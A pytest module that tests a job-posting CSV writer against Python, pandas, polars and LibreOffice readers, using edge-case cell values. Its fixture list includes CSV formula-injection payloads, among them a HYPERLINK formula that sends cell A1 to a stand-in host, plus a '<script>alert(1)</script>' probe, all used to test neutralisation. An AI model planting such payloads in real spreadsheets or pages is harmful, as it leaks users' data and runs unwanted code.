"""CSV as other programs read it: pandas, polars and LibreOffice get every cell back by the documented rule."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from unionjobs_scraper.publish.writers import FORMULA, unguarded, write

TITLES = [
    "Organizer – Québec",
    "組合オルグ担当",
    "منظِّم نقابي",
    "Organizer 👩🏽‍🏭 ✊",
    "e\u0301 not composed",
    "\u202eresolver\u202c and \u2066isolated\u2069",
    "zero\u200bwidth, \u00a0hard space\u3000wide",
    'She said: "join us"',
    '"',
    '""',
    ",",
    "two\nlines",
    "two\r\nlines",
    "one\rreturn",
    "\nfirst",
    "last\n",
    " spaces at both ends ",
    "; semicolon\ttab",
    "<script>alert(1)</script>",
    "NULL",
    "None",
    "NA",
    "nan",
    "007",
    "1e5",
    "2026-05-01",
    "TRUE",
    "\\N",
    "\U0010ffff",
    "",
    *(f"{sign}1+1" for sign in FORMULA),
    *(f'{sign}HYPERLINK("http://xyz.test/?"&A1,"see")' for sign in FORMULA),
    *(sign * 2 for sign in FORMULA),
    *FORMULA,
]
LONG = ("The union seeks an organizer, “now”.\n" * 130_000)[: 5 << 20]
COLUMNS = {"title": str, "description": str}
CELL = 32_767
"""Characters that a cell of a spreadsheet holds at most."""
TEXT_IMPORT = "CSV:44,34,UTF8,1,1/2/2/2,0,true,false,false"
"""LibreOffice's import: comma, double quote, UTF-8, from line 1, both columns as text."""
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("readers") / "postings.csv"
    write([*((title, f"about {title}") for title in TITLES), ("Long", LONG)], COLUMNS, str(path))
    return path


def expected() -> list[tuple[str, str]]:
    return [*((title, f"about {title}") for title in TITLES), ("Long", LONG)]


def as_meant(rows: Any) -> list[tuple[str, ...]]:
    return [tuple(map(unguarded, row)) for row in rows]


def test_python(written: Path) -> None:
    csv.field_size_limit(len(LONG) + 1)
    with written.open(encoding="utf-8", newline="") as file:
        assert as_meant([*csv.reader(file)][1:]) == expected()


def test_pandas(written: Path) -> None:
    pandas = pytest.importorskip("pandas")
    read = pandas.read_csv(written, dtype=str, keep_default_na=False)
    assert as_meant(read.itertuples(index=False)) == expected()


def test_polars(written: Path) -> None:
    polars = pytest.importorskip("polars")
    read = polars.read_csv(written, infer_schema=False, empty_string_is_null=False)
    assert as_meant(read.iter_rows()) == expected()


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is missing (its package is 300 MB)")
def test_libreoffice(tmp_path: Path) -> None:
    """A spreadsheet shows each cell as text, runs none, and keeps line breaks as its own."""
    path = tmp_path / "postings.csv"
    longest = LONG[:CELL]
    write([*((title, title) for title in TITLES), ("Long", longest)], COLUMNS, str(path))
    cells = converted(path, tmp_path)
    assert not [cell for row in cells for cell in row if cell.get(f"{TABLE}formula")]
    shown = as_meant([shown_text(cell) for cell in row] for row in cells)[1:]
    meant = [*((title, title) for title in TITLES), ("Long", longest)]
    assert shown == [tuple(cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row) for row in meant]


def converted(path: Path, folder: Path) -> list[list[Any]]:
    """The cells of LibreOffice's own document of a CSV file."""
    command = ("soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "ods")
    arguments = (f"--infilter={TEXT_IMPORT}", "--outdir", str(folder), str(path))
    subprocess.run([*command, *arguments], check=True, capture_output=True, timeout=300)
    with zipfile.ZipFile(path.with_suffix(".ods")) as document:
        sheet = etree.fromstring(document.read("content.xml"), etree.XMLParser(huge_tree=True))
    rows = []
    for row in sheet.iter(f"{TABLE}table-row"):
        cells = [cell for cell in row for _ in range(int(cell.get(f"{TABLE}number-columns-repeated", "1")))]
        rows += [cells[:2]] * int(row.get(f"{TABLE}number-rows-repeated", "1"))
    return rows[: len(TITLES) + 2]


def shown_text(cell: Any) -> str:
    """A cell's paragraphs, with the signs for spaces and tabs read back."""
    return "\n".join(_inline(paragraph) for paragraph in cell.iter(f"{TEXT}p"))


def _inline(element: Any) -> str:
    own = {f"{TEXT}s": " " * int(element.get(f"{TEXT}c", "1")), f"{TEXT}tab": "\t", f"{TEXT}line-break": "\n"}
    said = own.get(element.tag, element.text or "")
    return str(said + "".join(_inline(child) + (child.tail or "") for child in element))
